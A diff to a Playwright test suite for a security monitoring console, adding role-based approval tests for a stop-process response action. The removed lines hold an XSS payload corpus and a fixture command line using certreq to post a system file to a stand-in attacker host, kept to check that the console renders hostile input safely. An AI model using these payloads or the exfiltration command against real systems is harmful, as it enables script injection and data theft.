@@ -6,15 +6,17 @@
 import { test, before, after, describe } from 'node:test';
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Browser, BrowserContext, Page } from 'playwright-core';
 import { startServer, type RunningServer } from '../../src/server/app.js';
 import { defaultConfig } from '../../src/server/config.js';
+import { parseWorkflows } from '../../src/respond/index.js';
 import { REPO_ROOT } from '../helpers/paths.js';
 import { AUTH, TOKEN } from './support/http.js';
 import { ndjson, sysmonProcessCreate } from './support/events.js';
+import { XSS, xssEvents } from './support/xss.js';
 
 // The browser globals used inside page.evaluate callbacks (they run in Chromium; the tests' tsconfig has no DOM
 // lib, and adding it globally would retype fetch for every other test). Module-scoped declarations only.
@@ -45,14 +47,12 @@ const ARTIFACTS = join(REPO_ROOT, 'test-artifacts', 'console');
 const WIDE = { width: 1440, height: 900 };
 const NARROW = { width: 390, height: 844 };
 
-// The XSS corpus: each string goes through a field the console shows (command line, image, parent, user, host, URL).
-const XSS = {
-  img: '<img src=x onerror="window.__pwned=1;alert(1)">',
-  script: '"><script>window.__pwned=2;alert(2)</script>',
-  js: 'javascript:alert(3)//',
-  bidi: 'invoice\u202Etxt.exe',
-  svg: '<svg onload=alert(4)>',
-};
+/** A read-only and a respond-only token beside the admin TOKEN, to see what each role is shown. */
+const READ_TOKEN = 'viewer-token-0123456789abcdef';
+const RESPOND_TOKEN = 'responder-token-0123456789abcdef';
+/** Where the stop-process workflow's harmless script records the argv it was run with (one JSON line per run). */
+let argvLog = '';
+let recorder = '';
 
 let srv: RunningServer;
 let browser: Browser | undefined;
@@ -66,34 +66,41 @@ async function ingest(body: string | Buffer, headers: Record<string, string>, ma
   assert.equal(answer.rejected ?? 0, malformed, JSON.stringify(answer));
 }
 
-function xssEvents(): Record<string, unknown>[] {
-  const base = { time: '2024-05-02T08:00:00.000Z' };
-  return [
-    sysmonProcessCreate({
-      ...base,
-      recordId: 900001,
-      host: `XSS01${XSS.img}`,
-      user: `CORP\\${XSS.script}`,
-      image: `C:\\Users\\Public\\${XSS.bidi}\\certreq.exe`,
-      parentImage: `C:\\Windows\\${XSS.svg}\\cmd.exe`,
-      commandLine: `certreq -Post -config ${XSS.js}https://x.example/${encodeURIComponent('"')} C:\\Users\\Public\\${XSS.bidi} "${XSS.img}" ${XSS.script}`,
-    }),
-    sysmonProcessCreate({
-      ...base,
-      recordId: 900002,
-      host: 'XSS02.corp.example',
-      commandLine: `certreq -Post -config https://evil.example/${XSS.script} C:\\Windows\\win.ini ${XSS.svg}`,
-      user: `CORP\\${XSS.bidi}`,
-    }),
-  ];
-}
-
 before(async () => {
   if (skip) return;
   execFileSync(process.execPath, [join(REPO_ROOT, 'scripts', 'build-console.mjs')], { stdio: 'inherit' });
   mkdirSync(ARTIFACTS, { recursive: true });
   dataDir = mkdtempSync(join(tmpdir(), 'pw-console-'));
-  srv = await startServer({ ...defaultConfig(), port: 0, dataDir, tokens: [{ name: 'analyst', token: TOKEN }] }, { notice: () => {} });
+  // Stop-process through a harmless local script that records its argv and prints what it would stop.
+  argvLog = join(dataDir, 'argv.jsonl');
+  recorder = join(dataDir, 'record-argv.mjs');
+  writeFileSync(
+    recorder,
+    [
+      "import { appendFileSync } from 'node:fs';",
+      'appendFileSync(process.env.ARGV_LOG, JSON.stringify(process.argv.slice(2)) + "\\n");',
+      'console.log(`would stop ${process.env.PROCWATCH_TARGET_NAME} (${process.env.PROCWATCH_TARGET_PID}) on ${process.env.PROCWATCH_TARGET_HOST}`);',
+    ].join('\n'),
+  );
+  const workflows = parseWorkflows([
+    {
+      name: 'stop-certreq',
+      type: 'stop_process',
+      rules: ['certreq-download-upload'],
+      min_severity: 'low',
+      via: 'command',
+      dry_run: false,
+      approval: 'required',
+      argv: [process.execPath, recorder, '{host.name}', '{process.pid}', '{process.executable}'],
+      env: { ARGV_LOG: argvLog },
+    },
+  ]);
+  const tokens = [
+    { name: 'analyst', token: TOKEN },
+    { name: 'viewer', token: READ_TOKEN, scopes: ['read' as const] },
+    { name: 'responder', token: RESPOND_TOKEN, scopes: ['respond' as const] },
+  ];
+  srv = await startServer({ ...defaultConfig(), port: 0, dataDir, tokens, workflows }, { notice: () => {} });
   const samples = join(REPO_ROOT, 'samples');
   await ingest(readFileSync(join(samples, 'sysmon-ws01.xml')), { 'content-type': 'application/xml' });
   await ingest(readFileSync(join(samples, 'security-ws03.xml')), { 'content-type': 'application/xml' });
@@ -119,9 +126,9 @@ interface Watched {
   errors: string[];
 }
 
-async function open(viewport: { width: number; height: number }, signedIn = true): Promise<Watched> {
+async function open(viewport: { width: number; height: number }, signedIn = true, token = TOKEN): Promise<Watched> {
   const ctx = await browser!.newContext({ viewport });
-  if (signedIn) await ctx.addInitScript((t: string) => sessionStorage.setItem('procwatch.token', t), TOKEN);
+  if (signedIn) await ctx.addInitScript((t: string) => sessionStorage.setItem('procwatch.token', t), token);
   const page = await ctx.newPage();
   const dialogs: string[] = [];
   const errors: string[] = [];
@@ -410,6 +417,7 @@ describe('web console in Chromium (1440×900 and 390×844)', { skip }, () => {
           `#/alerts/${a2.id}`,
           ...(a1.incident_id ? [`#/incidents/${a1.incident_id}`] : []),
           `#/incidents`,
+          `#/actions`,
         ];
         for (const v of views) {
           await w.page.goto(`${srv.url}/console/${v}`);
@@ -450,6 +458,150 @@ describe('web console in Chromium (1440×900 and 390×844)', { skip }, () => {
       assert.deepEqual(w.errors, []);
     } finally {
       await w.ctx.close();
+    }
+  });
+
+  test('certreq flow with roles: read intent and tree, approve a stop-process action (422 when not corroborated, 409 when decided meanwhile), see the result and the audit on the action and on its alert', async () => {
+    const ws01 = await alertId('attacker.example/ c:', 'WS01.corp.example');
+    const adm = await alertId('Corp-CA', 'SRV-ADM01.corp.example');
+    const actionOf = async (alert: string): Promise<{ id: string; request: { command: { argv: string[] } } }> => {
+      const r = (await (await fetch(`${srv.url}/api/actions?alert=${alert}`, { headers: AUTH })).json()) as { items: { id: string; request: { command: { argv: string[] } } }[] };
+      assert.ok(r.items[0], `an action for alert ${alert}`);
+      return r.items[0];
+    };
+    const expected = (await actionOf(adm.id)).request.command.argv;
+    assert.deepEqual(expected, [process.execPath, recorder, 'SRV-ADM01.corp.example', '4188', 'C:\\Windows\\System32\\certreq.exe']);
+
+    const w = await open(WIDE, true, RESPOND_TOKEN);
+    try {
+      // The responder's header names the token and its scopes; no triage form for a respond-only token.
+      await w.page.goto(`${srv.url}/console/#/alerts/${ws01.id}`);
+      await w.page.waitForSelector('#intent');
+      assert.match((await w.page.textContent('header.top .me')) ?? '', /responder\s*read respond/);
+      await w.page.waitForSelector('#tree svg .tree-node');
+      assert.equal(await w.page.$('#status form'), null, 'no status form without triage');
+      // What will run, argument by argument, exactly as stored (and run).
+      await w.page.waitForSelector('#actions .action-card .argv li');
+      const shown = await w.page.$$eval('#actions .action-card .argv li', (li) => li.map((x) => x.textContent ?? ''));
+      assert.deepEqual(shown, [process.execPath, recorder, 'WS01.corp.example', '6120', 'C:\\Windows\\System32\\certreq.exe']);
+      assert.doesNotMatch((await w.page.textContent('#actions')) ?? '', /Invoke-Command|Stop-Process/, 'no preview of a command that does not run');
+      // This process ended long ago: the confirmation says it is not corroborated and the server refuses (422).
+      await w.page.click('#actions button.approve');
+      await w.page.waitForSelector('#actions .confirm');
+      const confirm = (await w.page.textContent('#actions .confirm')) ?? '';
+      assert.match(confirm, /WS01\.corp\.example PID 6120 C:\\Windows\\System32\\certreq\.exe/);
+      assert.match(confirm, /Not corroborated: .*already terminated/);
+      await shot(w.page, 'action-confirm-refused-wide');
+      await w.page.click('#actions button.confirm-yes');
+      await w.page.waitForSelector('#actions .decision-problem');
+      assert.match((await w.page.textContent('#actions .decision-problem')) ?? '', /Refused: the target is not corroborated/);
+      await w.page.waitForSelector('#actions .action-status.st-failed');
+      assert.equal(await w.page.$('#actions button.approve'), null);
+
+      // SRV-ADM01's certreq is still running per the events: verified, approved, run, audited.
+      await w.page.goto(`${srv.url}/console/#/alerts/${adm.id}`);
+      await w.page.waitForSelector('#actions button.approve');
+      await w.page.click('#actions button.approve');
+      await w.page.waitForSelector('#actions .confirm .verified');
+      assert.match((await w.page.textContent('#actions .confirm')) ?? '', /SRV-ADM01\.corp\.example PID 4188 .*Verified: process start observed: Sysmon 1 record 77001/);
+      await w.page.fill('#actions .confirm input', 'confirmed -submit to an unknown CA');
+      await shot(w.page, 'action-confirm-wide');
+      await w.page.click('#actions button.confirm-yes');
+      await w.page.waitForSelector('#actions .action-status.st-succeeded', { timeout: 15_000 });
+      const recorded = readFileSync(argvLog, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as string[]);
+      assert.deepEqual(recorded, [expected.slice(2)], 'the script ran once, with exactly the argv the console showed');
+      const card = (await w.page.textContent('#actions .action-card')) ?? '';
+      assert.match(card, /Exit code0/);
+      assert.match(card, /would stop certreq \(4188\) on SRV-ADM01\.corp\.example/);
+      await w.page.waitForFunction(() => /action\.succeeded/.test(document.querySelector('#actions .action-audit')?.textContent ?? ''));
+      const trail = (await w.page.textContent('#actions .action-audit')) ?? '';
+      assert.match(trail, /action\.approved by responder reason: confirmed -submit to an unknown CA/);
+      // The alert's own Audit section shows the approval and the run (they are recorded against the action).
+      await w.page.reload();
+      await w.page.waitForSelector('#audit li');
+      const alertAudit = (await w.page.textContent('#audit')) ?? '';
+      assert.match(alertAudit, /action\.approved by responder/);
+      assert.match(alertAudit, /action\.succeeded by procwatch/);
+      await noSidewaysScroll(w.page, 'alert with actions wide');
+      await w.page.locator('#actions').scrollIntoViewIfNeeded();
+      await shot(w.page, 'alert-actions-wide');
+
+      // Decided meanwhile: the confirmation is open while another request rejects it, then 409 is explained.
+      const ws02 = await alertId('198.51.100.7', 'WS02.corp.example');
+      const a2 = await actionOf(ws02.id);
+      await w.page.goto(`${srv.url}/console/#/actions/${a2.id}`);
+      await w.page.waitForSelector('.action-card button.reject');
+      await w.page.click('.action-card button.reject');
+      await w.page.waitForSelector('.action-card .confirm');
+      const rej = await fetch(`${srv.url}/api/actions/${a2.id}/reject`, { method: 'POST', headers: { authorization: `Bearer ${RESPOND_TOKEN}` }, body: '{}' });
+      assert.equal(rej.status, 200);
+      await w.page.click('.action-card button.confirm-yes');
+      await w.page.waitForSelector('.action-card .decision-problem');
+      assert.match((await w.page.textContent('.action-card .decision-problem')) ?? '', /someone decided this action meanwhile/);
+      await w.page.waitForSelector('.action-card .action-status.st-rejected');
+
+      // The list: filter by status, open an action.
+      await w.page.goto(`${srv.url}/console/#/actions?status=succeeded`);
+      await w.page.waitForSelector('table.actions tbody tr');
+      assert.equal(await w.page.$$eval('table.actions tbody tr', (r) => r.length), 1);
+      await shot(w.page, 'actions-wide');
+      await w.page.click('table.actions tbody tr a:has-text("stop-certreq")');
+      await w.page.waitForSelector('.action-detail .action-status.st-succeeded');
+      await w.page.waitForSelector('.action-detail .action-audit li');
+      await shot(w.page, 'action-wide');
+      // The refused decisions (422, 409) were expected; the browser logs each as a failed resource load too.
+      const unexpected = w.errors.filter((e) => !/^(409|422) .*\/api\/actions\/[0-9a-f]+\/(approve|reject)$/.test(e) && !/status of (409|422) /.test(e));
+      assert.equal(w.errors.length - unexpected.length, 4, w.errors.join('\n'));
+      assert.deepEqual(unexpected, []);
+    } finally {
+      await w.ctx.close();
+    }
+
+    // Narrow: the same views fit, and the confirmation opens and cancels.
+    const n = await open(NARROW, true, RESPOND_TOKEN);
+    try {
+      await n.page.goto(`${srv.url}/console/#/alerts/${adm.id}`);
+      await n.page.waitForSelector('#actions .action-status.st-succeeded');
+      await n.page.waitForSelector('#audit li');
+      await n.page.locator('#actions').scrollIntoViewIfNeeded();
+      await noSidewaysScroll(n.page, 'alert with actions narrow');
+      await shot(n.page, 'alert-actions-narrow');
+      const ws04 = await alertId('files.attacker.example', 'WS04.corp.example');
+      const a4 = await actionOf(ws04.id);
+      await n.page.goto(`${srv.url}/console/#/actions/${a4.id}`);
+      await n.page.click('.action-card button.approve');
+      await n.page.waitForSelector('.action-card .confirm');
+      await noSidewaysScroll(n.page, 'confirmation narrow');
+      await shot(n.page, 'action-confirm-narrow');
+      await n.page.click('.action-card .confirm button:has-text("Cancel")');
+      await n.page.waitForSelector('.action-card button.approve');
+      await n.page.goto(`${srv.url}/console/#/actions`);
+      await n.page.waitForSelector('table.actions tbody tr');
+      await noSidewaysScroll(n.page, 'actions narrow');
+      await shot(n.page, 'actions-narrow');
+      assert.deepEqual(n.errors, []);
+    } finally {
+      await n.ctx.close();
+    }
+  });
+
+  test('a read-only token sees no approve/reject and no status form; the header names it', async () => {
+    const ws04 = await alertId('files.attacker.example', 'WS04.corp.example');
+    for (const [vp, tag] of [[WIDE, 'wide'], [NARROW, 'narrow']] as const) {
+      const w = await open(vp, true, READ_TOKEN);
+      try {
+        await w.page.goto(`${srv.url}/console/#/alerts/${ws04.id}`);
+        await w.page.waitForSelector('#actions .action-card .argv li');
+        assert.match((await w.page.textContent('header.top .me')) ?? '', /viewer\s*read/);
+        assert.equal(await w.page.$('button.approve, button.reject'), null, 'no decision buttons without respond');
+        assert.match((await w.page.textContent('#actions')) ?? '', /Awaiting approval by a token with the respond scope/);
+        assert.equal(await w.page.$('#status form'), null, 'no status form without triage');
+        await noSidewaysScroll(w.page, `read-only alert ${tag}`);
+        await shot(w.page, `readonly-${tag}`);
+        assert.deepEqual(w.errors, []);
+      } finally {
+        await w.ctx.close();
+      }
     }
   });
 });
